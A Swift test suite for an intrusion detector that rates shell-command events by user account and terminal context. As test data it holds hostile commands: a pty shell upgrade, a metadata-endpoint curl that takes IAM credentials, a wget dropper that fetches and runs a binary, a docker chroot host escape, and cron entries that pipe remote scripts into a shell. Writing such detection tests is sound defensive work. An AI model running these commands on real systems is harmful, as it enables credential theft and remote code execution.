import Evidence
import Testing

@testable import Detectors

@Suite struct ActingHandTests {
  private static let upgrade = "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"
  private static let keys = "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web"
  private static let dropper = "cd /tmp && wget http://203.0.113.66/x && chmod +x x && ./x"

  private func judged(_ type: String, _ command: String, _ attributes: [Attribute]) -> Finding? {
    let name = type == "linux:shell:command" || type == "linux:persistence:entry" ? "command" : "command_line"
    let event = Event(
      time: nil, dataType: type, message: "", attributes: [Attribute(name, command)] + attributes, locator: .whole)
    return findings(TextInEvents(artifact: artifact), [event]).first
  }

  /// One line that a developer typed is no intrusion, and says what it would be beside other signs of one.
  @Test(arguments: [
    Self.upgrade, Self.keys, Self.dropper, "docker run -it --rm -v /:/mnt alpine chroot /mnt sh",
    "cp /bin/bash /tmp/bash.bak",
  ])
  func typedByAPerson(command: String) {
    for user in ["kim", "root"] {
      let found = judged("linux:shell:command", command, [Attribute("user", user)])
      #expect(found?.severity == .medium && found?.confidence == .medium, "\(command)")
      #expect(found?.attributes.contains(Attribute(Finding.besideOtherSigns, "high")) == true)
    }
  }

  @Test(arguments: ["www-data", "tomcat", "postgres", "nobody"])
  func underTheAccountOfAService(user: String) {
    for command in [Self.upgrade, Self.keys, Self.dropper] {
      let found = judged("linux:shell:command", command, [Attribute("user", user)])
      #expect(found?.severity == .high && found?.attributes.contains { $0.name == Finding.besideOtherSigns } == false)
    }
  }

  @Test func aTerminalTellsAPersonsProcess() {
    let type = "linux:capture:process"
    let kim = Attribute("user", "kim")
    #expect(judged(type, Self.upgrade, [kim, Attribute("tty", "pts/0")])?.severity == .medium)
    #expect(judged(type, Self.upgrade, [kim])?.severity == .high)
    #expect(judged(type, Self.upgrade, [Attribute("uid", 91), Attribute("tty", "pts/0")])?.severity == .high)
    let audit = "linux:audit:syscall"
    #expect(judged(audit, Self.upgrade, [Attribute("auid", 1000), Attribute("tty", "pts1")])?.severity == .medium)
    #expect(judged(audit, Self.upgrade, [Attribute("tty", "pts1")])?.severity == .high)
    #expect(judged(audit, Self.upgrade, [Attribute("auid", 1000)])?.severity == .high)
    // Nobody's history is no person's.
    #expect(judged("linux:shell:command", Self.upgrade, [])?.severity == .high)
  }

  /// Scripts of root sign with the role's keys; those of a web server do not.
  @Test func rootReadsTheRolesKeys() {
    #expect(judged("linux:audit:syscall", Self.keys, [Attribute("uid", 0)])?.severity == .medium)
    #expect(judged("linux:audit:syscall", Self.keys, [Attribute("uid", 33)])?.severity == .high)
    #expect(judged("linux:audit:syscall", Self.upgrade, [Attribute("uid", 0)])?.severity == .high)
  }

  @Test func aServiceHasNoInstallersToRun() {
    func scheduled(_ user: String, _ command: String = "curl -fsSL https://h.example/x.sh | bash") -> Severity? {
      judged("linux:persistence:entry", command, [Attribute("mechanism", "cron"), Attribute("user", user)])?.severity
    }
    #expect(scheduled("tomcat") == .high && scheduled("root") == .low)
    #expect(scheduled("root", "curl -s http://203.0.113.66/a.sh | sh") == .high)
    #expect(scheduled("tomcat", "curl -fsS https://h.example/ping") != .high)
  }
}
